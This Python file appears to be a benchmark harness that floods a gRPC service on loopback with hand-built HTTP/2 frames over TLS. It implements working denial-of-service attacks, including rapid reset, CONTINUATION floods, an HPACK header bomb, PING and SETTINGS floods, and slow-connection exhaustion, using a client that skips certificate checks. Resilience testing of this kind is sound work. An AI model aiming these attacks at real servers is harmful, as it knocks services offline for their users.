"""HTTP/2 attacks on a region's data port, as clients that send raw frames over TLS.

    python benchmarks/http2_attacks.py "rapid reset" --port 7400 --identity certs/us-west

A library for HTTP/2 refuses to send most of this, so the frames are written by hand (RFC 9113, headers by RFC 7541).
`ATTACKS` is the list. `Flood` keeps one attack going, from several connections at once, and makes a new connection for
each that the other side closes. As a program it ends with its standard input, and tells ten times a second how far it
is; `attacking` runs that.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import itertools
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from random import Random
from types import TracebackType

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LARGEST_FRAME = 16_384
"""What a receiver takes as long as it has not said more."""

CONTROL_METHOD = b"/diloco.Region/control"
BULK_METHOD = b"/diloco.Region/bulk"
PROGRAM = str(Path(__file__).resolve())
SLICE_S = 0.05
PACE_S = 0.3
"""Between two bytes of a client that is slow on purpose."""


# ---- frames ----------------------------------------------------------------------------------------------------------


def frame(kind: int, payload: bytes = b"", *, stream: int = 0, flags: int = 0) -> bytes:
    """One frame: 24 bits of length, kind, flags, stream."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(**values: int) -> bytes:
    """A SETTINGS frame; `s4=0` sets number 4 to 0."""
    return frame(SETTINGS, b"".join(struct.pack(">HI", int(name[1:]), value) for name, value in values.items()))


def number(value: int, bits: int, head: int) -> bytes:
    """An integer of HPACK with a prefix of so many bits."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([head | value])
    rest, out = value - most, bytearray([head | most])
    while rest >= 128:
        out.append(rest % 128 | 128)
        rest //= 128
    out.append(rest)
    return bytes(out)


def text(value: bytes) -> bytes:
    """A string of HPACK, without Huffman."""
    return number(len(value), 7, 0) + value


def literal(name: bytes | int, value: bytes, *, is_kept: bool = False) -> bytes:
    """A header; the name is an index into the static table, or is given. `is_kept`: it goes into the dynamic table."""
    bits, head = (6, 0x40) if is_kept else (4, 0)
    if isinstance(name, int):
        return number(name, bits, head) + text(value)
    return number(0, bits, head) + text(name) + text(value)


def call_headers(method: bytes = CONTROL_METHOD, more: bytes = b"") -> bytes:
    """The headers of a gRPC call: POST, https, path, authority, content-type, te."""
    return (
        b"\x83\x87"
        + literal(4, method)
        + literal(1, b"region")
        + literal(31, b"application/grpc")
        + literal(b"te", b"trailers")
        + more
    )


def message(body: bytes) -> bytes:
    """A message as gRPC frames it: not compressed, length, body."""
    return struct.pack(">BI", 0, len(body)) + body


def opening(stream: int, method: bytes = CONTROL_METHOD) -> bytes:
    """A call begins."""
    return frame(HEADERS, call_headers(method), stream=stream, flags=END_HEADERS)


def streams() -> Iterator[int]:
    """Numbers for the streams of a client, as many as there can be."""
    return iter(range(1, 2**31 - 1, 2))


def batches(numbers: Iterator[int], size: int) -> Iterator[list[int]]:
    """Some of them at a time."""
    while batch := list(itertools.islice(numbers, size)):
        yield batch


# ---- attacks: what is sent after the preface and the settings --------------------------------------------------------


def rapid_reset(_: Random) -> Iterator[bytes]:
    """Calls that are cancelled in the moment they begin (CVE-2023-44487)."""
    reset = struct.pack(">I", CANCEL)
    for batch in batches(streams(), 50):
        yield b"".join(opening(one) + frame(RST_STREAM, reset, stream=one) for one in batch)


def reset_by_the_server(_: Random) -> Iterator[bytes]:
    """Calls that the server itself must reset: the window of each is overfilled (CVE-2025-8671)."""
    too_much = struct.pack(">I", 2**31 - 1)
    for batch in batches(streams(), 50):
        yield b"".join(opening(one) + frame(WINDOW_UPDATE, too_much, stream=one) for one in batch)


def cancelled_uploads(_: Random) -> Iterator[bytes]:
    """Calls that are cancelled in the middle of a message of 1 MiB."""
    begun = struct.pack(">BI", 0, 2**20) + bytes(8000)
    reset = struct.pack(">I", CANCEL)
    for one in streams():
        yield opening(one, BULK_METHOD) + frame(DATA, begun, stream=one) + frame(RST_STREAM, reset, stream=one)


def endless_headers(_: Random) -> Iterator[bytes]:
    """One call whose headers never end: CONTINUATION frames (CVE-2024-27316)."""
    yield frame(HEADERS, call_headers(), stream=1)
    for count in itertools.count():
        yield frame(CONTINUATION, literal(b"x-%d" % count, bytes(8000)) * 2, stream=1)


def header_bomb(_: Random) -> Iterator[bytes]:
    """Sixteen thousand references of one byte each to a header of 4,000 bytes: 64 MB in 16 KiB."""
    kept = literal(b"x", b"y" * 3900, is_kept=True)
    for one in streams():
        block = call_headers(more=kept + bytes([0x80 | 62]) * (LARGEST_FRAME - 4500))
        yield frame(HEADERS, block, stream=one, flags=END_HEADERS)


def large_metadata(_: Random) -> Iterator[bytes]:
    """Calls with 64 KiB of metadata."""
    for one in streams():
        yield frame(HEADERS, call_headers(), stream=one)
        for _ in range(7):
            yield frame(CONTINUATION, literal(b"x", b"y" * 8000), stream=one)
        yield frame(CONTINUATION, literal(b"x", b"y" * 8000), stream=one, flags=END_HEADERS)


def pings(_: Random) -> Iterator[bytes]:
    """PING frames, each of which wants an answer (CVE-2019-9512)."""
    while True:
        yield frame(PING, bytes(8)) * 200


def settings_flood(_: Random) -> Iterator[bytes]:
    """SETTINGS frames, each of which wants an answer (CVE-2019-9515)."""
    while True:
        yield settings(s4=65_535) * 200


def empty_data(_: Random) -> Iterator[bytes]:
    """DATA frames without data (CVE-2019-9518)."""
    yield opening(1)
    while True:
        yield frame(DATA, stream=1) * 200


def windows(_: Random) -> Iterator[bytes]:
    """WINDOW_UPDATE and PRIORITY frames for streams that there are not."""
    for batch in batches(itertools.cycle(range(1001, 2**20, 2)), 100):
        yield b"".join(
            frame(WINDOW_UPDATE, struct.pack(">I", 1), stream=1) + frame(PRIORITY, struct.pack(">IB", 0, 1), stream=one)
            for one in batch
        )


def many_calls(_: Random) -> Iterator[bytes]:
    """Ten thousand calls on one connection, which are left open and say nothing."""
    for batch in itertools.islice(batches(streams(), 50), 200):
        yield b"".join(opening(one) for one in batch)


def slow_message(_: Random) -> Iterator[bytes]:
    """A first message that comes byte by byte."""
    yield opening(1)
    for byte in message(bytes(4000)):
        yield frame(DATA, bytes([byte]), stream=1)
        time.sleep(PACE_S)


def mutated(random: Random) -> Iterator[bytes]:
    """Right frames in which some bytes are wrong; one more is wrong with each, until the connection is closed."""
    for one in streams():
        right = (
            opening(one) + frame(DATA, message(b"\x01" * 60), stream=one) + settings(s4=70_000) + frame(PING, bytes(8))
        )
        wrong = bytearray(right)
        for _ in range(random.randrange(1, 6)):
            wrong[random.randrange(len(wrong))] = random.randrange(256)
        yield bytes(wrong)


def garbage(random: Random) -> Iterator[bytes]:
    """Bytes that are no frames."""
    while True:
        yield random.randbytes(4096)


def nothing(_: Random) -> Iterator[bytes]:
    """A connection that says nothing more."""
    return iter(())


def answering(sock: ssl.SSLSocket, until: threading.Event) -> None:
    """Answer each PING of the other side, so that it takes the connection for alive; nothing else is taken."""
    data = b""
    sock.settimeout(SLICE_S)
    while not until.is_set():
        try:
            data += sock.recv(65536)
        except TimeoutError:
            continue
        except OSError:
            return
        while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
            length, kind, flags = int.from_bytes(data[:3], "big"), data[3], data[4]
            if kind == PING and not flags & ACK:
                sock.sendall(frame(PING, data[9 : 9 + length], flags=ACK))
            data = data[9 + length :]


def slow_preface(_: Random) -> Iterator[bytes]:
    """The preface, byte by byte."""
    for byte in PREFACE * 100:
        yield bytes([byte])
        time.sleep(PACE_S)


def slow_client_hello(_: Random) -> Iterator[bytes]:
    """The beginning of a TLS handshake, byte by byte: a record of 16 KiB that never comes to its end."""
    yield b"\x16\x03\x01\x40\x00\x01\x00\x3f\xfc"
    for _ in range(16_000):
        yield b"\x03"
        time.sleep(PACE_S)


@dataclass(frozen=True)
class Attack:
    """One way to make trouble.

    Attributes:
        name: for people. chunks: what is sent, piece by piece, of a seed.
        connections: at a time. is_reading: whether it reads what comes.
        is_tls: a TLS handshake comes first. preface: what is sent first of all.
    """

    name: str
    chunks: Callable[[Random], Iterator[bytes]]
    connections: int = 4
    is_reading: bool = True
    is_tls: bool = True
    preface: bytes = PREFACE + settings()


ATTACKS = (
    Attack("rapid reset", rapid_reset),
    Attack("reset by the server", reset_by_the_server),
    Attack("cancelled uploads", cancelled_uploads),
    Attack("endless headers", endless_headers),
    Attack("header bomb", header_bomb),
    Attack("large metadata", large_metadata),
    Attack("pings", pings),
    Attack("pings, unread", pings, is_reading=False),
    Attack("settings", settings_flood),
    Attack("settings, unread", settings_flood, is_reading=False),
    Attack("empty data", empty_data),
    Attack("windows", windows),
    Attack("many calls", many_calls),
    Attack("slow message", slow_message, connections=16),
    Attack("mutated frames", mutated),
    Attack("garbage", garbage, preface=b""),
    Attack("silent connections", nothing, connections=200),
    Attack("slow preface", slow_preface, connections=100, preface=b""),
    Attack("slow handshakes", slow_client_hello, connections=200, is_tls=False, preface=b""),
    Attack("new connections", nothing, connections=16, preface=b"GET / HTTP/1.1\r\n\r\n"),
)


# ---- the clients -----------------------------------------------------------------------------------------------------


def client_context(identity: Path | None, *, alpn: str = "h2") -> ssl.SSLContext:
    """TLS that believes any server.

    Args:
        identity: folder with node.pem and node.key; None: no certificate.
    """
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    if identity is not None:
        context.load_cert_chain(identity / "node.pem", identity / "node.key")
    return context


@dataclass
class Flood:
    """An attack that goes on: use it as a context manager.

    Args:
        port: on loopback. identity: as for `client_context`. seed: of what is random.

    Attributes:
        connected: connections that were made, TLS included. closed: those that the other side ended.
        sent_bytes: below TLS none are counted.
    """

    attack: Attack
    port: int
    identity: Path | None
    seed: int = 0
    connected: int = 0
    closed: int = 0
    sent_bytes: int = 0
    _threads: list[threading.Thread] = field(default_factory=list)
    _stopping: threading.Event = field(default_factory=threading.Event)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def __enter__(self) -> Flood:
        for index in range(self.attack.connections):
            thread = threading.Thread(target=self._run, args=(index,), daemon=True)
            self._threads.append(thread)
            thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, traceback: TracebackType | None
    ) -> None:
        self._stopping.set()
        for thread in self._threads:
            thread.join()

    def _run(self, index: int) -> None:
        context = client_context(self.identity) if self.attack.is_tls else None
        for life in itertools.count():
            if self._stopping.is_set():
                return
            random = Random(f"{self.seed}/{index}/{life}")
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=30) as plain:
                    if context is None:
                        self._attack(plain, random)
                    else:
                        with context.wrap_socket(plain, server_hostname="region") as secure:
                            self._attack(secure, random)
            except (OSError, ValueError):  # ValueError: what Python's ssl makes of a socket that was closed under it
                with self._lock:
                    self.closed += 1
                self._stopping.wait(SLICE_S)

    def _attack(self, sock: socket.socket, random: Random) -> None:
        """Until it is over, which is a ConnectionError if the other side ends it."""
        with self._lock:
            self.connected += 1
        sock.setblocking(False)
        for chunk in itertools.chain((self.attack.preface,), self.attack.chunks(random)):
            self._send(sock, chunk)
            if self._stopping.is_set():
                return
        while not self._stopping.is_set():
            self._turn(sock, is_sending=False)

    def _send(self, sock: socket.socket, data: bytes) -> None:
        view = memoryview(data)
        while view and not self._stopping.is_set():
            try:
                sent = sock.send(view)
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                self._turn(sock, is_sending=True)
                continue
            view = view[sent:]
            with self._lock:
                self.sent_bytes += sent
            self._turn(sock, is_sending=True, wait_s=0)

    def _turn(self, sock: socket.socket, *, is_sending: bool, wait_s: float = SLICE_S) -> None:
        """Read what is there, or wait until there is something to do."""
        reads = [sock] if self.attack.is_reading else []
        readable, _, _ = select.select(reads, [sock] if is_sending and wait_s else [], [], wait_s)
        if readable:
            with contextlib.suppress(ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                if not sock.recv(65536):
                    raise ConnectionError("closed")


# ---- in a process of its own: Python's lock would else slow down the peers that are measured -------------------------


@dataclass
class Progress:
    """How far an attack is. Attributes as those of `Flood`."""

    connected: int = 0
    closed: int = 0
    sent_bytes: int = 0


@contextlib.asynccontextmanager
async def attacking(
    attack: Attack, port: int, identity: Path | None, *, seed: int = 0, niceness: int = 0
) -> AsyncIterator[Progress]:
    """Keep an attack going, in a process of its own; a nice one gets what processor time the others leave."""
    words = [
        "nice",
        "-n",
        str(niceness),
        sys.executable,
        PROGRAM,
        attack.name,
        "--port",
        str(port),
        "--seed",
        str(seed),
    ]
    if identity is not None:
        words += ["--identity", str(identity)]
    pipe = asyncio.subprocess.PIPE
    process = await asyncio.create_subprocess_exec(*words, stdin=pipe, stdout=pipe)
    assert process.stdin is not None
    assert process.stdout is not None
    progress = Progress()

    async def follow(lines: asyncio.StreamReader) -> None:
        async for line in lines:
            progress.__dict__.update(json.loads(line))

    following = asyncio.create_task(follow(process.stdout))
    try:
        yield progress
        assert process.returncode is None, "the attack has ended by itself"
    finally:
        process.stdin.close()
        await following
        await process.wait()


def main() -> int:
    """Attack until standard input ends."""
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("attack", choices=[attack.name for attack in ATTACKS])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--identity", type=Path)
    parser.add_argument("--seed", type=int, default=0)
    options = parser.parse_args()
    attack = next(attack for attack in ATTACKS if attack.name == options.attack)
    with Flood(attack, options.port, options.identity, options.seed) as flood:
        while not select.select([sys.stdin], [], [], 0.1)[0]:
            print(json.dumps({"connected": flood.connected, "closed": flood.closed, "sent_bytes": flood.sent_bytes}))
            sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
